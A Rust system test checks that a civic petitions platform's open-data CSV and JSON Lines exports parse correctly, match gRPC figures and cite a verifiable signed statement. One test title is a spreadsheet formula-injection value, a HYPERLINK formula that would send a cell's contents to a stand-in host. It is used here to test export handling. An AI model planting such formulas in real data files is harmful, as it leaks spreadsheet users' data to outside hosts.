//! Open data as a third party reads it: every file the association publishes under
//! /open-data/ parses with Python's csv module (and its JSON Lines twin with json), has the
//! dictionary's columns and the index's row count, and the hromadas table equals the gRPC
//! figures; text with commas, quotes and line breaks survives; the files name the signed
//! statement they derive from, which verifies under the association's witness key.

use std::time::Duration;

use event_store_core::checkpoint::NoteVerifier;
use proto::audit::v1 as auditpb;
use proto::national::v1 as natpb;
use proto::node::v1 as nodepb;
use system_tests::{Civic, KORIUKIVKA, TestAssociation, VINNYTSIA, repo};
use testkit::NatsServer;

const TITLE: &str = "Сквер «Дружба», \"зелена\" зона";
const TEXT: &str = "Просимо:\n1) лавки;\n2) ліхтарі, урни.";
const FORMULA: &str = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Підписати\")";

/// Runs the reader script against the association; its JSON output.
fn read_open_data(url: &str) -> serde_json::Value {
    let script = repo().join("tests/system/scripts/open_data.py");
    let out = std::process::Command::new("python3")
        .arg(&script)
        .arg(url)
        .output()
        .expect("python3 runs");
    assert!(
        out.status.success(),
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("the script prints JSON")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn every_open_data_file_parses_and_matches_the_grpc_figures() {
    let nats = NatsServer::start().await.unwrap();
    let (association, [vinnytsia, koriukivka]) =
        TestAssociation::with_nodes(&nats.url(), [(VINNYTSIA, 2), (KORIUKIVKA, 2)]).await;
    let mut v = Civic::of(&vinnytsia).await;
    let square = v.file_text(TITLE, TEXT, "благоустрій").await;
    v.publish(&square).await;
    v.sign(&square, 0..2).await;
    v.consider(&square).await;
    v.answer(&square, nodepb::AnswerDecision::Supported).await;
    v.file_and_reject("Перейменувати річку").await;
    // A title a spreadsheet would run as a formula.
    let formula = v.file_text(FORMULA, "Текст.", "інше").await;
    v.publish(&formula).await;
    let hearing = v
        .dialogue(nodepb::DialogueKind::PublicHearing, &vinnytsia.clock, 1)
        .await;
    v.contribute(&hearing, "resident").await;
    let mut k = Civic::of(&koriukivka).await;
    let bridge = k.petition("Ремонт мосту").await;
    k.sign(&bridge, 0..1).await;
    let plan = k.plan("2026-01-01", "2027-12-31").await;
    let commitment = k.commitment(&plan, "2026-01-01", "2027-06-30").await;
    k.milestone(&plan, &commitment, "2026-03-31").await;
    association
        .wait_all(&[&vinnytsia, &koriukivka], Duration::from_secs(30))
        .await;
    let stated = association.wait_stated().await;

    // The files of the current statement (published right after it is kept).
    let url = association.url();
    let mut read = read_open_data(&url);
    for _ in 0..50 {
        if read["statement"]["digest"] == stated.digest.as_str() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
        read = read_open_data(&url);
    }
    assert_eq!(read["statement"]["digest"], stated.digest.as_str());
    let keys = association
        .audit()
        .await
        .list_keys(auditpb::ListKeysRequest::default())
        .await
        .unwrap()
        .into_inner();
    let witness = NoteVerifier::parse(&keys.witness_vkey).unwrap();
    let note = read["statement"]["note"].as_str().unwrap();
    let opened = projection::statement::Statement::open(note, &witness).expect("it verifies");
    assert_eq!(hex::encode(opened.digest), stated.digest);

    // Row counts: two hromadas; four petitions published or not (Vinnytsia's three, Koriukivka's
    // one: the rejected one is a petition too); the catalogue's public entries.
    let rows = &read["rows"];
    assert_eq!(rows["hromadas"], 2);
    assert_eq!(rows["petitions"], 4);
    assert_eq!(rows["dialogues"], 1);
    assert_eq!(rows["plans"], 1);
    assert_eq!(rows["commitments"], 1);
    assert_eq!(rows["milestones"], 1);
    // The square, the formula, the bridge, the hearing and the commitment (not the rejected
    // petition).
    assert_eq!(rows["practices"], 5);

    // The hromadas table equals the gRPC figures, field by field.
    let mut national = association.national().await;
    for row in read["hromadas"].as_array().unwrap() {
        let code = row["code"].as_str().unwrap();
        let m = national
            .get_municipality(natpb::GetMunicipalityRequest { code: code.into() })
            .await
            .unwrap()
            .into_inner();
        let f = m.figures.unwrap();
        let n = |name: &str| row[name].as_str().unwrap().parse::<u64>().unwrap();
        assert_eq!(row["name_uk"], m.name_uk.as_str());
        assert_eq!(n("population"), f.population);
        for (name, grpc) in [
            ("petitions_filed", f.petitions_filed),
            ("petitions_published", f.petitions_published),
            ("petitions_rejected", f.petitions_rejected),
            ("petitions_threshold_reached", f.petitions_threshold_reached),
            (
                "petitions_consideration_started",
                f.petitions_consideration_started,
            ),
            ("petitions_answered", f.petitions_answered),
            ("petitions_answered_on_time", f.petitions_answered_on_time),
            ("petitions_moderated_late", f.petitions_moderated_late),
            ("signatures", f.signatures),
            ("dialogues_closed", f.dialogues_closed),
            ("contributions", f.contributions),
            ("outcome_reports", f.outcome_reports),
            ("plans_adopted", f.action_plans),
            ("commitments", f.commitments),
            ("milestones", f.milestones),
            ("anomalies", f.anomalies),
        ] {
            assert_eq!(n(name), grpc, "{code} {name}");
        }
        let announced: u64 = projection::codes::DIALOGUE_KIND_NAMES
            .iter()
            .map(|kind| n(&format!("dialogues_{kind}")))
            .sum();
        assert_eq!(announced, f.dialogues_announced, "{code}");
    }

    // Text with commas, quotes and line breaks reads back exactly.
    let practices = read["practices"].as_array().unwrap();
    let entry = practices
        .iter()
        .find(|p| p["id"] == square.as_str())
        .expect("the square's entry");
    assert_eq!(entry["title"], TITLE);
    assert_eq!(entry["text"], TEXT);
    assert_eq!(entry["decision"], "supported");
    assert!(
        practices
            .iter()
            .all(|p| p["title"] != "Перейменувати річку")
    );
    association.shutdown().await;
}
